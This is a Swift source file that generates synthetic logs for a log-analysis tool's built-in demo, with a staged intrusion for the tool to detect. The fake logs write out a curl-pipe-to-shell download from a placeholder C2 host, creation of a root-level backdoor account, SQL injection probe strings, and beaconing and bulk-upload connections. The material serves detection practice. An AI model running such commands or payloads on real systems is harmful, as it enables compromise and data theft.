import Foundation
import SpoorCore

/// The built-in demo: a small organisation's logs in real formats, with an intrusion in them.
///
/// `spoor analyze` with no path writes these files to a temporary folder and reads them back
/// through the real parsers, like any user's logs. The organisation ("acme") has a web server
/// (`web01`: OpenSSH, sudo, cron, nginx), a Zeek sensor and an application writing JSON lines.
/// The intrusion: an SSH password-guessing run from 203.0.113.45, a successful login as
/// `deploy`, a sudo download-and-run, a backdoor account, and a host beaconing to
/// 198.51.100.7 every minute; meanwhile 192.0.2.77 probes the web site for SQL injection.
/// Everything is generated from a fixed seed, so the demo gives the same events every run.
public enum DemoLogs {
    /// The day the demo's logs cover (UTC).
    public static let day = CivilTime(year: 2026, month: 11, day: 2)
    /// The demo's `--collected-at`: the evening of that day.
    public static var collectedAt: Timestamp { Timestamp(microseconds: CivilTime(year: 2026, month: 11, day: 2, hour: 23).utcMicroseconds) }

    /// Writes the demo's files under `directory` and returns their paths.
    @discardableResult
    public static func write(to directory: URL) throws -> [String] {
        let fm = FileManager.default
        for sub in ["web01", "sensor", "app"] {
            try fm.createDirectory(at: directory.appendingPathComponent(sub), withIntermediateDirectories: true)
        }
        var rng = SplitMix64(seed: 20_261_102)
        let files: [(String, String)] = [
            ("web01/auth.log", authLog(&rng)),
            ("web01/access.log", accessLog(&rng)),
            ("sensor/conn.log", zeekConn(&rng)),
            ("sensor/dns.log", zeekDNS(&rng)),
            ("app/events.jsonl", appJSON(&rng)),
        ]
        var paths: [String] = []
        for (name, text) in files {
            let url = directory.appendingPathComponent(name)
            try Data(text.utf8).write(to: url)
            paths.append(url.path)
        }
        return paths
    }

    /// Writes the demo's threat feed (a plain list as abuse.ch-style feeds publish them, dated
    /// the morning after the logs) under `directory` and returns its path: the guesser, the C2
    /// address and the download URL, with unrelated entries around them, so `spoor analyze`
    /// shows what retro-hunting finds — the case saw them hours before the feed named them.
    @discardableResult
    public static func writeIntel(to directory: URL) throws -> String {
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        let text = """
            # Demo threat feed (a plain list, one indicator per line)
            # Last updated: 2026-11-03 07:00:00 UTC
            #
            # SSH brute-force sources
            203.0.113.45
            203.0.113.99
            # Malware distribution and C2
            hxxp://198.51.100[.]7/k.sh
            198.51.100.7;C2 of the k.sh loader
            update-check[.]example[.]com;C2 of the k.sh loader

            """
        let url = directory.appendingPathComponent("demo-feed.txt")
        try Data(text.utf8).write(to: url)
        return url.path
    }

    static func at(_ seconds: Int) -> CivilTime {
        CivilTime(utcMicroseconds: day.utcMicroseconds + Int64(seconds) * 1_000_000)
    }

    static func bsd(_ seconds: Int) -> String {
        let t = at(seconds)
        let months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
        let d = t.day < 10 ? " \(t.day)" : "\(t.day)"
        return "\(months[t.month - 1]) \(d) " + two(t.hour) + ":" + two(t.minute) + ":" + two(t.second)
    }

    static func two(_ v: Int) -> String { v < 10 ? "0\(v)" : "\(v)" }

    static func authLog(_ rng: inout SplitMix64) -> String {
        var lines: [(Int, String)] = []
        let admins = ["alice", "bob"]
        var pid = 2_000
        // Daily work: administrators log in with keys from the office network.
        for hour in [8, 9, 11, 13, 15, 17] {
            let user = admins[rng.below(2)]
            let t = hour * 3600 + rng.below(1800)
            pid += 1 + rng.below(50)
            let port = 40_000 + rng.below(20_000)
            lines.append((t, "\(bsd(t)) web01 sshd[\(pid)]: Accepted publickey for \(user) from 10.0.0.\(5 + rng.below(4)) port \(port) ssh2: ED25519 SHA256:k3Yv\(rng.below(9999))"))
            lines.append((t, "\(bsd(t)) web01 sshd[\(pid)]: pam_unix(sshd:session): session opened for user \(user)(uid=100\(rng.below(2))) by (uid=0)"))
            lines.append((t + 40, "\(bsd(t + 40)) web01 sudo: \(user) : TTY=pts/0 ; PWD=/home/\(user) ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"))
            let end = t + 600 + rng.below(1200)
            lines.append((end, "\(bsd(end)) web01 sshd[\(pid)]: pam_unix(sshd:session): session closed for user \(user)"))
        }
        for minute in stride(from: 0, to: 24 * 60, by: 30) {
            let t = minute * 60 + 1
            pid += 1
            lines.append((t, "\(bsd(t)) web01 CRON[\(pid)]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"))
            lines.append((t, "\(bsd(t)) web01 CRON[\(pid + 1)]: (root) CMD (/usr/local/bin/backup.sh --incremental)"))
            lines.append((t + 2, "\(bsd(t + 2)) web01 CRON[\(pid)]: pam_unix(cron:session): session closed for user root"))
            pid += 1
        }
        // The intrusion: password guessing, then success, then hands-on-keyboard.
        let start = 2 * 3600 + 17 * 60
        let names = ["admin", "test", "oracle", "ubuntu", "postgres", "git", "deploy", "user", "guest", "pi"]
        for i in 0..<240 {
            let t = start + i * 3 + rng.below(2)
            pid += 1
            let name = names[rng.below(names.count)]
            let port = 30_000 + rng.below(30_000)
            if name == "deploy" {
                lines.append((t, "\(bsd(t)) web01 sshd[\(pid)]: Failed password for deploy from 203.0.113.45 port \(port) ssh2"))
            } else {
                lines.append((t, "\(bsd(t)) web01 sshd[\(pid)]: Invalid user \(name) from 203.0.113.45 port \(port)"))
                lines.append((t, "\(bsd(t)) web01 sshd[\(pid)]: Failed password for invalid user \(name) from 203.0.113.45 port \(port) ssh2"))
            }
            lines.append((t + 1, "\(bsd(t + 1)) web01 sshd[\(pid)]: Connection closed by invalid user \(name) 203.0.113.45 port \(port) [preauth]"))
        }
        let win = start + 240 * 3 + 5
        pid += 7
        lines.append((win, "\(bsd(win)) web01 sshd[\(pid)]: Accepted password for deploy from 203.0.113.45 port 51812 ssh2"))
        lines.append((win, "\(bsd(win)) web01 sshd[\(pid)]: pam_unix(sshd:session): session opened for user deploy(uid=1003) by (uid=0)"))
        lines.append((win + 50, "\(bsd(win + 50)) web01 sudo: deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash -c curl -s http://198.51.100.7/k.sh | sh"))
        lines.append((win + 90, "\(bsd(win + 90)) web01 useradd[\(pid + 40)]: new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1"))
        lines.append((win + 95, "\(bsd(win + 95)) web01 passwd[\(pid + 41)]: pam_unix(passwd:chauthtok): password changed for sysupdate"))
        lines.append((win + 400, "\(bsd(win + 400)) web01 sshd[\(pid)]: pam_unix(sshd:session): session closed for user deploy"))
        return lines.sorted { $0.0 < $1.0 }.map(\.1).joined(separator: "\n") + "\n"
    }

    static func accessLog(_ rng: inout SplitMix64) -> String {
        var lines: [(Int, String)] = []
        let pages = ["/", "/products", "/products/42", "/cart", "/login", "/static/app.js", "/static/site.css", "/api/stock?id=42"]
        let agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
                      "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
                      "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0"]
        func clf(_ t: Int) -> String {
            let c = at(t)
            let months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
            return "[\(two(c.day))/\(months[c.month - 1])/\(c.year):\(two(c.hour)):\(two(c.minute)):\(two(c.second)) +0000]"
        }
        for _ in 0..<1_500 {
            let t = 6 * 3600 + rng.below(16 * 3600)
            let ip = "198.18.\(rng.below(20)).\(1 + rng.below(250))"
            let page = pages[rng.below(pages.count)]
            let status = rng.below(50) == 0 ? 404 : 200
            lines.append((t, "\(ip) - - \(clf(t)) \"GET \(page) HTTP/1.1\" \(status) \(200 + rng.below(40_000)) \"https://shop.acme.example/\" \"\(agents[rng.below(agents.count)])\""))
        }
        let probes = ["/products?id=42'", "/products?id=42%20OR%201=1--", "/products?id=42%20UNION%20SELECT%20username,password%20FROM%20users--",
                      "/login?user=admin'--", "/api/stock?id=1;WAITFOR%20DELAY%20'0:0:5'--", "/.env", "/wp-login.php", "/phpmyadmin/"]
        for i in 0..<120 {
            let t = 14 * 3600 + i * 4
            let probe = probes[i % probes.count]
            lines.append((t, "192.0.2.77 - - \(clf(t)) \"GET \(probe) HTTP/1.1\" \(i % 3 == 0 ? 500 : 404) \(100 + rng.below(900)) \"-\" \"sqlmap/1.8.2#stable (https://sqlmap.org)\""))
        }
        return lines.sorted { $0.0 < $1.0 }.map(\.1).joined(separator: "\n") + "\n"
    }

    static func zeekHeader(path: String, fields: [String], types: [String]) -> String {
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t\(path)\n#open\t2026-11-02-00-00-00\n"
            + "#fields\t" + fields.joined(separator: "\t") + "\n#types\t" + types.joined(separator: "\t") + "\n"
    }

    static func epoch(_ t: Int, _ micro: Int) -> String {
        let secs = day.utcMicroseconds / 1_000_000 + Int64(t)
        let m = String(micro)
        return "\(secs)." + String(repeating: "0", count: 6 - m.count) + m
    }

    static func uid(_ rng: inout SplitMix64) -> String {
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
        return "C" + String((0..<17).map { _ in alphabet[rng.below(alphabet.count)] })
    }

    static func zeekConn(_ rng: inout SplitMix64) -> String {
        let fields = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service", "duration",
                      "orig_bytes", "resp_bytes", "conn_state", "local_orig", "local_resp", "missed_bytes", "history",
                      "orig_pkts", "orig_ip_bytes", "resp_pkts", "resp_ip_bytes", "tunnel_parents"]
        let types = ["time", "string", "addr", "port", "addr", "port", "enum", "string", "interval", "count", "count", "string",
                     "bool", "bool", "count", "string", "count", "count", "count", "count", "set[string]"]
        var rows: [(Int, String)] = []
        func row(_ t: Int, _ src: String, _ dst: String, _ dport: Int, _ proto: String, _ service: String, _ ob: Int, _ rb: Int,
                 _ rng: inout SplitMix64) -> String {
            let dur = Double(1 + rng.below(5000)) / 1000
            let op = 2 + rng.below(20), rp = 2 + rng.below(20)
            return [epoch(t, rng.below(1_000_000)), uid(&rng), src, String(32_768 + rng.below(28_000)), dst, String(dport), proto,
                    service, String(format: "%.6f", dur), String(ob), String(rb), "SF", "T", "F", "0", "ShADadFf",
                    String(op), String(ob + op * 40), String(rp), String(rb + rp * 40), "(empty)"].joined(separator: "\t")
        }
        let servers = ["93.184.216.34", "151.101.1.69", "140.82.121.4", "13.107.42.14"]
        for _ in 0..<1_200 {
            let t = rng.below(86_400)
            let src = "10.0.0.\(10 + rng.below(40))"
            rows.append((t, row(t, src, servers[rng.below(servers.count)], 443, "tcp", "ssl", 500 + rng.below(5000), 2000 + rng.below(200_000), &rng)))
        }
        // Beaconing: 10.0.0.23 calls 198.51.100.7 every 60 s (± 2 s) after the intrusion.
        var t = 2 * 3600 + 40 * 60
        while t < 86_400 {
            rows.append((t, row(t, "10.0.0.23", "198.51.100.7", 443, "tcp", "ssl", 310 + rng.below(20), 1_150 + rng.below(40), &rng)))
            t += 58 + rng.below(5)
        }
        // Exfiltration at night: large uploads to the same address.
        for i in 0..<6 {
            let tt = 3 * 3600 + i * 600
            rows.append((tt, row(tt, "10.0.0.23", "198.51.100.7", 443, "tcp", "ssl", 40_000_000 + rng.below(5_000_000), 4_000, &rng)))
        }
        return zeekHeader(path: "conn", fields: fields, types: types) + rows.sorted { $0.0 < $1.0 }.map(\.1).joined(separator: "\n")
            + "\n#close\t2026-11-03-00-00-00\n"
    }

    static func zeekDNS(_ rng: inout SplitMix64) -> String {
        let fields = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "trans_id", "query", "qclass",
                      "qclass_name", "qtype", "qtype_name", "rcode", "rcode_name", "AA", "TC", "RD", "RA", "Z", "answers", "TTLs", "rejected"]
        let types = ["time", "string", "addr", "port", "addr", "port", "enum", "count", "string", "count", "string", "count", "string",
                     "count", "string", "bool", "bool", "bool", "bool", "count", "vector[string]", "vector[interval]", "bool"]
        let names = ["www.example.com", "github.com", "updates.vendor.example", "shop.acme.example", "mail.acme.example", "ntp.ubuntu.com"]
        var rows: [(Int, String)] = []
        for _ in 0..<800 {
            let t = rng.below(86_400)
            let q = names[rng.below(names.count)]
            rows.append((t, [epoch(t, rng.below(1_000_000)), uid(&rng), "10.0.0.\(10 + rng.below(40))", String(30_000 + rng.below(30_000)),
                             "10.0.0.2", "53", "udp", String(rng.below(65_536)), q, "1", "C_INTERNET", "1", "A", "0", "NOERROR",
                             "F", "F", "T", "T", "0", "93.184.216.\(rng.below(250))", "300.000000", "F"].joined(separator: "\t")))
        }
        // A resolver lookup for the beacon's host and a few algorithmic names that do not resolve.
        let letters = Array("abcdefghijklmnopqrstuvwxyz")
        for i in 0..<30 {
            let t = 2 * 3600 + 41 * 60 + i * 97
            let name = String((0..<(12 + rng.below(8))).map { _ in letters[rng.below(26)] }) + ".top"
            rows.append((t, [epoch(t, rng.below(1_000_000)), uid(&rng), "10.0.0.23", String(30_000 + rng.below(30_000)), "10.0.0.2", "53",
                             "udp", String(rng.below(65_536)), name, "1", "C_INTERNET", "1", "A", "3", "NXDOMAIN", "F", "F", "T", "T", "0",
                             "-", "-", "F"].joined(separator: "\t")))
        }
        return zeekHeader(path: "dns", fields: fields, types: types) + rows.sorted { $0.0 < $1.0 }.map(\.1).joined(separator: "\n")
            + "\n#close\t2026-11-03-00-00-00\n"
    }

    static func appJSON(_ rng: inout SplitMix64) -> String {
        var lines: [(Int, String)] = []
        let users = ["alice@acme.example", "bob@acme.example", "carol@acme.example", "dave@acme.example"]
        for _ in 0..<400 {
            let t = 7 * 3600 + rng.below(12 * 3600)
            let user = users[rng.below(users.count)]
            let ok = rng.below(20) != 0
            let ts = at(t).iso8601(fractionDigits: 3, offsetSeconds: nil)
            lines.append((t, "{\"timestamp\":\"\(ts)\",\"level\":\"info\",\"event\":\"\(ok ? "login" : "login_failed")\",\"user\":\"\(user)\",\"client\":{\"ip\":\"198.18.\(rng.below(20)).\(1 + rng.below(250))\"},\"duration_ms\":\(5 + rng.below(300))}"))
        }
        return lines.sorted { $0.0 < $1.0 }.map(\.1).joined(separator: "\n") + "\n"
    }
}

